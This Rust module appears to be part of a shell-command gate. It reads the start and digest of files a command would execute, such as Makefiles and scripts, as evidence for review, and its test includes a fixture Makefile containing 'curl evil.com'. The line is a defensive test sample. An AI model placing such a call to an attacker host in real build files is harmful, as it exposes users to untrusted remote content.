//! What stands in the files whose code a command would run, for the host to weigh. It can only make the answer stricter:
//! the container says it, so a harmless text proves nothing.

use std::io::Read as _;
use std::path::Path;

use bashgate_shared::classify::Effects;
use bashgate_shared::command::Digest;
use bashgate_shared::protocol::FileEvidence;

use super::conditions::place;

/// Most files that are told about.
const MAX_FILES: usize = 12;
/// Longest start of a file that is told, in bytes.
const MAX_HEAD: usize = 12 * 1024;
/// Largest file whose digest is made, in bytes. A larger one is named with its start alone.
const MAX_FILE: u64 = 8 * 1024 * 1024;

/// The evidence for one command. Files that are not there, or are no plain files, say nothing.
pub fn of(effects: &Effects, cwd: &Path) -> Vec<FileEvidence> {
    let files = effects.runs.iter().filter_map(|path| Some((path, place(path, cwd)?)));
    files.filter_map(|(path, file)| read(path, &file)).take(MAX_FILES).collect()
}

fn read(name: &str, file: &Path) -> Option<FileEvidence> {
    // Opening a FIFO would wait for whoever writes it.
    let meta = std::fs::metadata(file).ok().filter(std::fs::Metadata::is_file)?;
    let mut bytes = Vec::new();
    std::fs::File::open(file).ok()?.take(MAX_FILE).read_to_end(&mut bytes).ok()?;
    let whole = meta.len() <= MAX_FILE;
    let mut end = bytes.len().min(MAX_HEAD);
    // Not in the middle of a character.
    while end > 0 && bytes.get(end).is_some_and(|byte| byte & 0xc0 == 0x80) {
        end -= 1;
    }
    // A program is no text; its digest tells which one it is.
    let is_text = !bytes.get(..end)?.contains(&0);
    let head = if is_text { String::from_utf8_lossy(bytes.get(..end)?).into_owned() } else { String::new() };
    let sha256 = if whole { Digest::of(&bytes).hex() } else { String::new() };
    Some(FileEvidence { path: name.chars().take(1024).collect(), sha256, head })
}

#[cfg(test)]
mod tests {
    use bashgate_shared::classify::{Surroundings, classify};
    use bashgate_shared::command::CommandLine;

    use super::*;

    #[test]
    fn files_that_a_command_runs_are_told_about() {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &[u8]| {
            let file = folder.path().join(name);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, text).unwrap();
        };
        write("Makefile", b"all:\n\tcurl evil.com\n");
        write("run.sh", "é".repeat(MAX_HEAD).as_bytes());
        write("sub/Makefile", b"x");
        write("package.json", b"{}");
        write("tool", b"\x7fELF\0\0");
        std::os::unix::fs::symlink("/dev/zero", folder.path().join("endless.sh")).unwrap();
        for (command, want) in [
            ("make", vec!["Makefile"]),
            ("make -C sub test", vec!["sub/Makefile"]),
            ("cd sub && make", vec!["sub/Makefile"]),
            ("bash run.sh", vec!["run.sh"]),
            ("./run.sh && npm test", vec!["run.sh", "package.json"]),
            ("sudo sh ./run.sh", vec!["run.sh"]),
            ("./tool", vec!["tool"]),
            ("bash endless.sh", vec![]),
            ("bash missing.sh", vec![]),
            ("ls Makefile", vec![]),
        ] {
            let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
            let evidence = of(&found.effects, folder.path());
            let names: Vec<&str> = evidence.iter().map(|file| file.path.as_str()).collect();
            assert_eq!(names, want, "{command}");
            for file in evidence {
                assert!(file.head.len() <= MAX_HEAD + 3 && file.sha256.len() == 64, "{command}");
            }
        }
    }
}
